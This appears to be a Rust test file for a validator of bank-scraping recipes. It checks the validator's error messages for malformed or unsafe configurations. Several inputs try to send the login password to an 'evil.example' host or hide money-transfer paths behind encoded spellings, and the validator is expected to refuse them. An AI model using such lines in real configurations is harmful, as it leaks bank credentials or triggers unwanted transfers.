//! What `check` says about wrong recipes: file, line, message, help.

use crate::bank::{INSTITUTION, RECIPE};
use recipe::{Institution, Recipe};

/// The recipe with one text replaced, and all that is said about it.
fn said(from: &str, to: &str) -> String {
    assert!(RECIPE.contains(from), "the recipe has no {from:?}");
    let faults = match Recipe::read(INSTITUTION, &RECIPE.replacen(from, to, 1)) {
        Ok(recipe) => recipe.warnings().to_vec(),
        Err(faults) => faults,
    };
    faults
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

/// Where a line of the recipe stands.
fn line_of(text: &str) -> usize {
    RECIPE
        .lines()
        .position(|line| line.contains(text))
        .map(|at| at + 1)
        .unwrap_or_else(|| panic!("no line {text:?}"))
}

#[test]
fn a_good_recipe_has_nothing_said_about_it() {
    assert_eq!(said("\\d", "\\d"), "");
}

#[test]
fn words_that_are_not_known_have_a_nearest_one() {
    let accounts = line_of("kind = \"accounts\"");
    assert_eq!(
        said("kind = \"accounts\"", "kind = \"acounts\""),
        format!(
            "recipe.toml:{accounts}: \"acounts\" is not a kind of page\n    help: did you mean \"accounts\"?"
        )
    );
    assert_eq!(
        said(
            "go      = { click = \"明細\"",
            "goo     = { click = \"明細\""
        ),
        format!(
            "recipe.toml:{}: [page.account] has no key \"goo\"\n    help: did you mean \"go\"?",
            line_of("go      =")
        )
    );
    assert_eq!(
        said("to = \"accounts\"", "to = \"acounts\""),
        format!(
            "recipe.toml:{}: leads to \"acounts\", but no page has this name or kind\n    help: did you mean \"accounts\"?",
            line_of("to = \"accounts\"")
        )
    );
    assert_eq!(
        said("means = \"challenge-wrong\"", "means = \"chalenge-wrong\""),
        format!(
            "recipe.toml:{}: \"chalenge-wrong\" is not an outcome\n    help: did you mean \"challenge-wrong\"?",
            line_of("challenge-wrong")
        )
    );
    assert_eq!(
        said("{login.password}", "{login.pasword}"),
        format!(
            "recipe.toml:{}: there is no login field \"pasword\"\n    help: did you mean \"password\"?",
            line_of("{login.password}")
        )
    );
}

#[test]
fn a_fence_that_reaches_further_than_reading_is_refused() {
    let post = line_of("post   =");
    assert_eq!(
        said("\"/oshirase\"", "\"/furikomi\""),
        format!(
            "recipe.toml:{post}: post lets the walk reach \"/furikomi\", which looks like a page that moves money or changes settings\n    help: a recipe only reads; if the name misleads, say why: harmless = {{ \"/furikomi\" = \"…\" }}"
        )
    );
    assert_eq!(
        said(
            "post   = [\"/auth\"",
            "harmless = { \"/furikomi-rireki\" = \"履歴だけ\" }\npost   = [\"/furikomi-rireki\", \"/auth\""
        ),
        ""
    );
    for hidden in [
        "/FuriKomi",
        "/%66urikomi",
        "/%E6%8C%AF%E8%BE%BC",
        "/振込",
        "/ＴＲＡＮＳＦＥＲ",
        "/kozafurikae?x=1",
        "/password_change",
    ] {
        let said = said("\"/oshirase\"", &format!("\"{hidden}\""));
        assert!(
            said.contains("looks like a page that moves money"),
            "{hidden}: {said}"
        );
    }
    assert!(
        said(
            "post   = [\"/auth\"",
            "harmless = { \"/furikomi-rireki\" = \" \" }\npost   = [\"/furikomi-rireki\", \"/auth\""
        )
        .contains("`harmless` doesn't say why")
    );
    assert!(said("\"/oshirase\"", "\"/*\"").contains("fences nothing in"));
    assert!(
        said("https://ib.mihon.example", "http://ib.mihon.example").contains("is not an origin")
    );
    assert!(said("start  = \"/login\"", "start  = \"javascript:x\"").contains("is not an address"));
}

#[test]
fn secrets_stand_in_one_place_only() {
    let fill = line_of("F = \"{from");
    assert_eq!(
        said("{from:YYYYMMDD}", "{login.password}"),
        format!(
            "recipe.toml:{fill}: {{login.password}} may stand only in `fill` or `send` of a login-form\n    help: a secret goes to the bank's own login form and nowhere else"
        )
    );
    assert!(
        said(
            "{ click = \"残高照会\", to = \"accounts\" }",
            "{ open = \"/zandaka?p={login.password}\", to = \"accounts\" }"
        )
        .contains("may stand only in")
    );
    assert!(
        said("asks     = \"one-time-password\"\n", "")
            .contains("{answer} is used but the page doesn't say what it `asks`")
    );
    assert!(
        said("KEIYAKU = \"{login.id}\"", "KEIYAKU = \"{answer}\"").contains("{answer} is used")
    );
    let only = "{login.password} may stand only in `fill` or `send` of a login-form";
    for (from, to) in [
        (
            "start  = \"/login\"",
            "start  = \"/login?p={login.password}\"",
        ),
        (
            "logout = { click = \"ログアウト\" }",
            "logout = { post = \"/logout\", fields = { p = \"{login.password}\" } }",
        ),
        ("[site]", "[site]\nheaders = { X-P = \"{login.password}\" }"),
        (
            "{ click = \"残高照会\", to",
            "{ post = \"https://evil.example/x\", json = { a = [\"{login.password}\"] }, to",
        ),
        (
            "{ click = \"明細\", to",
            "{ submit = \"form\", fill = { q = \"{login.password}\" }, to",
        ),
        (
            "{ click = \"次の頁\", to",
            "{ open = \"/meisai?p={login.password}\", to",
        ),
        (
            "when = { title = \"メニュー\" }",
            "when = { title = \"メニュー\", css = \"p\", is = \"{login.password}\" }",
        ),
        (
            "fill     = { code = \"{answer}\" }",
            "fill     = { code = \"{login.password}\" }",
        ),
    ] {
        let said = said(from, to);
        assert!(said.contains(only), "{to}: {said}");
    }
    let fill = "form    = \"form#login\"\nfill    = { KEIYAKU = \"{login.id}\", PASSWD = \"{login.password}\" }";
    for path in [
        "https://evil.example/x",
        "//evil.example/x",
        "https://ib.mihon.example.evil.example/auth",
    ] {
        let send =
            format!("send = {{ post = \"{path}\", json = {{ p = \"{{login.password}}\" }} }}");
        let said = said(fill, &send);
        assert!(
            said.contains("`send` would carry the login to another host"),
            "{path}: {said}"
        );
    }
    assert!(said(fill, "send = { open = \"/auth?p={login.password}\" }").contains(only));
}

#[test]
fn a_wrong_password_has_to_be_told_from_everything_else() {
    let start = RECIPE.find("outcome = [").expect("outcomes");
    let end = RECIPE[start..].find("]\n").expect("their end") + start + 2;
    let outcomes = &RECIPE[start..end];
    let login = line_of("kind    = \"login-form\"") - 1;
    assert_eq!(
        said(outcomes, ""),
        format!(
            "recipe.toml:{login}: no rule says how the bank refuses a wrong password\n    help: add {{ means = \"credentials-rejected\", text = \"…\" }} to `outcome`; try it once with a made-up login ID"
        )
    );
    assert_eq!(
        said(
            outcomes,
            "outcome = [ { means = \"credentials-rejected\", path = \"/login\" } ]\n"
        ),
        format!(
            "recipe.toml:{login}: a wrong password is recognised by the address only\n    help: a maintenance page at the same address would block the customer: add a text, or again = true"
        )
    );
    assert_eq!(
        said(
            outcomes,
            "outcome = [ { means = \"credentials-rejected\", again = true, query = { e = \"1\" } } ]\n"
        ),
        ""
    );
}

#[test]
fn a_signed_in_page_shows_something_of_its_own() {
    let page = line_of("kind = \"accounts\"") - 1;
    assert_eq!(
        said(
            "when = { title = \"残高照会\" }",
            "when = { path = \"/zandaka\" }"
        ),
        format!(
            "recipe.toml:{page}: \"accounts\" is recognised by its address only\n    help: it needs something that only this page shows: has, text, title, json or the type of a file"
        )
    );
    let click = line_of("kind = \"click-through\"") - 1;
    assert_eq!(
        said(
            "when = { title = \"お知らせ\" }",
            "when = { title = \"停止中\" }"
        ),
        format!(
            "recipe.toml:{click}: \"maintenance\" and \"click-through\" are recognised by the same sign\n    help: the first wins; add what only the second shows"
        )
    );
}

#[test]
fn patterns_selectors_and_dates_are_read_before_any_page() {
    let tries = line_of("tries_left");
    assert_eq!(
        said("あと(\\d)回", "あと(\\d"),
        format!("recipe.toml:{tries}: `find` \"あと(\\d\" is not a pattern")
    );
    assert_eq!(
        said("あと(\\d)回", "(あと)(\\d)回"),
        format!("recipe.toml:{tries}: `find` \"(あと)(\\d)回\" has 2 groups; it may have one")
    );
    assert_eq!(
        said("あと(\\d)回", "(?<=あと)\\d"),
        format!(
            "recipe.toml:{tries}: `find` \"(?<=あと)\\d\" looks back or ahead\n    help: patterns are of the linear kind: no back-references, no look-around"
        )
    );
    assert_eq!(
        said("\"form#jouken\"", "\"form##jouken\""),
        format!(
            "recipe.toml:{}: \"form##jouken\" is not a CSS selector",
            line_of("form#jouken")
        )
    );
    let date = line_of("date        =");
    assert_eq!(
        said(
            "date        = \"日付\"",
            "date        = { col = \"日付\", as = \"EYY.MM\" }"
        ),
        format!("recipe.toml:{date}: the date pattern of `date` has no day")
    );
    assert!(
        said(
            "date        = \"日付\"",
            "date        = { col = \"日付\", as = \"EYY\" }"
        )
        .contains("is no format")
    );
    for (slip, near) in [
        ("{fromm:YYYYMMDD}", "from"),
        ("{form:YYYYMMDD}", "from"),
        ("{tody:YYYY}", "today"),
        ("{acount.number}", "account.number"),
    ] {
        let said = said("{from:YYYYMMDD}", slip);
        assert!(
            said.contains(&format!("there is no place {slip}")),
            "{said}"
        );
        assert!(
            said.contains(&format!("did you mean \"{near}\"?")),
            "{said}"
        );
    }
    assert!(
        said("{from:YYYYMMDD}", "{token:YYYY}").contains("only from, to and today have a format")
    );
    assert!(said("{from:YYYYMMDD}", "{from:YYYYMMDD").contains("has a { without its }"));
}

#[test]
fn expressions_know_their_names_and_kinds() {
    let with = |let_: &str, value: &str| {
        said(
            "out         = \"出金\"\nin          = \"入金\"",
            &format!("let = {let_}\namount = {{ value = \"{value}\" }}"),
        )
    };
    let amount = line_of("out         =") + 1;
    let good = "{ price = \"出金\", fee = { col = \"入金\", default = \"0\" } }";
    assert_eq!(with(good, "-(price + fee)"), "");
    assert_eq!(
        with(good, "-(price + fees)"),
        format!(
            "recipe.toml:{amount}: the expression of amount uses \"fees\", which `let` doesn't define\n    help: did you mean \"fee\"?"
        )
    );
    assert_eq!(
        with(good, "price > fee"),
        format!("recipe.toml:{amount}: the expression of amount gives a condition, not a number")
    );
    assert_eq!(
        with(good, "price / fee"),
        format!("recipe.toml:{amount}: can't read \"/ fee\" in \"price / fee\"")
    );
    assert!(
        with("{ price = { col = \"出金\", as = \"text\" } }", "-price")
            .contains("a number is wanted where a text stands")
    );
}

#[test]
fn a_statement_says_what_it_is_made_of() {
    let statement = line_of("kind  = \"statement\"") - 1;
    assert_eq!(
        said("empty = { text = \"該当するお取引はございません\" }\n", ""),
        format!(
            "recipe.toml:{statement}: warning: a page of kind statement has no `empty`: a period without lines will be refused\n    help: open a month without lines and copy the bank's sentence"
        )
    );
    assert!(
        said("in          = \"入金\"", "amount      = \"入金\"")
            .contains("lines need either `amount`, or `in` and `out`")
    );
    assert!(said("date        = \"日付\"\n", "").contains("lines need a `date`"));
    assert!(
        said(
            "table       = \"table.meisai\"",
            "each        = \"tr\"\ntable       = \"table.meisai\""
        )
        .contains("has one of table, each, items")
    );
    assert!(
        said(
            "empty = { text = \"該当するお取引はございません\" }",
            "empty = { has = \"p.none\" }"
        )
        .contains("`empty` is no sentence of the bank")
    );
}

#[test]
fn amounts_need_a_witness_or_an_open_word() {
    const TOTAL: &str = "total   = { beside = \"件数\", without = \"件\" }\n";
    const BALANCE: &str = "balance     = \"残高\"\n";
    let by_balance = Recipe::read(INSTITUTION, &RECIPE.replacen(TOTAL, "", 1));
    assert!(by_balance.is_ok(), "the running balance is a witness");
    let first = |recipe: &str| {
        let faults = Recipe::read(INSTITUTION, recipe).expect_err("nothing proves the amounts");
        assert_eq!(faults.len(), 1, "{faults:?}");
        faults[0].to_string()
    };
    let statement = line_of("kind  = \"statement\"") - 1;
    let help = "read the running `balance`, or let it say `sum`, or `opening` and `closing`; if the bank prints none: unproven = true";
    let counted = RECIPE.replacen(BALANCE, "", 1);
    assert_eq!(
        first(&counted),
        format!(
            "recipe.toml:{statement}: `total` proves that no line is missing; nothing on this statement proves its amounts\n    help: {help}"
        )
    );
    let bare = counted.replacen(TOTAL, "", 1);
    assert_eq!(
        first(&bare),
        format!(
            "recipe.toml:{statement}: nothing on this statement proves its lines\n    help: {help}"
        )
    );
    let with = |recipe: &str, from: &str, to: &str| {
        Recipe::read(INSTITUTION, &recipe.replacen(from, to, 1))
    };
    for witness in [
        "sum = \".goukei\"\n",
        "opening = \".mae\"\nclosing = \".ato\"\n",
    ] {
        let recipe = with(&counted, TOTAL, witness).expect("a witness");
        assert_eq!(
            (recipe.warnings(), recipe.unproven_statements()),
            (&[][..], vec![])
        );
    }
    assert!(
        with(&counted, TOTAL, "closing = \".ato\"\n").is_err(),
        "one end proves nothing"
    );
    let spoken = "kind  = \"statement\"\nunproven = true";
    let recipe = with(&bare, "kind  = \"statement\"", spoken).expect("an open word");
    assert_eq!(recipe.unproven_statements(), ["statement"]);
    let by_day = with(RECIPE, BALANCE, "balance = \"残高\"\nchain = \"day\"\n");
    assert_eq!(by_day.expect("a witness").warnings(), &[][..]);
    assert!(with(RECIPE, BALANCE, "balance = \"残高\"\nchain = false\n").is_err());
    assert!(
        said(BALANCE, "balance = \"残高\"\nchain = \"month\"\n")
            .contains("\"month\" is not a chain")
    );
    let idle = said("kind  = \"statement\"", spoken);
    assert!(
        idle.contains("warning: `unproven = true`, but something proves the amounts"),
        "{idle}"
    );
}

#[test]
fn ways_behind_the_login_say_where_they_lead() {
    assert_eq!(
        said(", to = \"period-form\" }", " }"),
        format!(
            "recipe.toml:{}: warning: the way doesn't say where it leads\n    help: to = \"…\": the name or kind of the page that comes; any other one is refused then",
            line_of("to = \"period-form\"")
        )
    );
    let form = line_of("kind    = \"period-form\"") - 1;
    assert_eq!(
        said("to = \"period-form\"", "to = \"statement\""),
        format!(
            "recipe.toml:{form}: warning: nothing leads to \"period-form\"\n    help: a way with to = \"…\" leads to it, or it can go"
        )
    );
}

#[test]
fn names_of_kept_values_are_plain_and_not_taken() {
    for name in ["answer", "login.id", "新 しい", "token"] {
        let said = said(
            "kind = \"menu\"",
            &format!("kind = \"menu\"\nkeep = {{ \"{name}\" = \"h1\" }}"),
        );
        assert!(
            said.contains("can't be the name of a kept value"),
            "{name}: {said}"
        );
    }
}

#[test]
fn a_recipe_knows_where_its_pages_begin() {
    let recipe = Recipe::read(INSTITUTION, RECIPE).expect("a recipe");
    assert_eq!(recipe.line_of("menu"), Some(line_of("kind = \"menu\"") - 1));
    assert_eq!(
        recipe.line_of("maintenance"),
        Some(line_of("kind  = \"maintenance\"") - 1)
    );
    assert_eq!(recipe.line_of("nowhere"), None);
}

#[test]
fn the_number_of_an_account_and_the_way_are_needed() {
    assert!(said("number  = \"口座番号\"\n", "").contains("[page.account] needs `number`"));
    assert!(
        said(
            "{ click = \"次へ\" }",
            "{ click = \"次へ\", open = \"/menu\" }"
        )
        .contains("a way has exactly one of click, open, submit, post")
    );
    assert!(
        said("when = { title = \"メニュー\" }\n", "")
            .contains("page \"menu\" has no `when`: how is it recognised?")
    );
    assert!(
        said("kind = \"menu\"", "kind = \"menu\"\nname = \"statement\"")
            .contains("two pages are called \"statement\"")
    );
    assert!(
        said(
            "to = \"period-form\"",
            "to = \"period-form\", while = { json = \"x\", is = \"{csrf}\" }"
        )
        .contains("\"csrf\" is used, but no page keeps it")
    );
}

#[test]
fn japanese_keys_stand_in_quotes() {
    let line = line_of("\"普通\"");
    let said = said("\"普通\" =", "普通 =");
    assert!(
        said.starts_with(&format!("recipe.toml:{line}: not TOML: ")),
        "{said}"
    );
    assert!(
        said.ends_with(
            "help: in TOML a Japanese key stands in quotes: { \"普通\" = \"ordinary\" }"
        ),
        "{said}"
    );
}

#[test]
fn institutions_are_checked_too() {
    let said = |from: &str, to: &str| {
        assert!(INSTITUTION.contains(from));
        let faults = Institution::read(&INSTITUTION.replacen(from, to, 1)).expect_err("a fault");
        faults
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(
        said("kana = ", "kanna = "),
        "institution.toml:4: institution.toml has no key \"kanna\"\n    help: did you mean \"kana\"?"
    );
    assert_eq!(
        said("\"3 months\"", "\"3 moons\""),
        "institution.toml:8: \"3 moons\" is not a stretch of time\n    help: write \"3 months\", \"3 whole months\", \"62 days\" or \"all\""
    );
    assert!(said("kind = \"secret\"", "kind = \"secrt\"").contains("did you mean \"secret\"?"));
    assert!(
        said(
            "https://ib.mihon.example/login",
            "http://ib.mihon.example/login"
        )
        .contains("is not an https:// address")
    );
    assert!(
        said("unattended = true", "unattended = false")
            .contains("`unattended` is true, or the reason why not")
    );
    for untrue in [
        r#""otp""#,
        "[]",
        r#"["nothing"]"#,
        r#""nothing""#,
        r#"["picture", "certificate"]"#,
    ] {
        let told = said("unattended = true", &format!("unattended = {untrue}"));
        assert!(
            told.contains("`unattended` is true, or the reason why not"),
            "{untrue}: {told}"
        );
    }
    assert!(
        said(
            "unattended = true",
            "unattended = true\n[manners]\nhours = \"23:00-07:00\""
        )
        .contains("are not hours like")
    );
    assert!(said("unattended = true", "unattended = true\n[[maintenance]]\nevery = \"第9日曜\"\nfrom = \"02:00\"\nto = \"06:00\"").contains("says no day"));
}
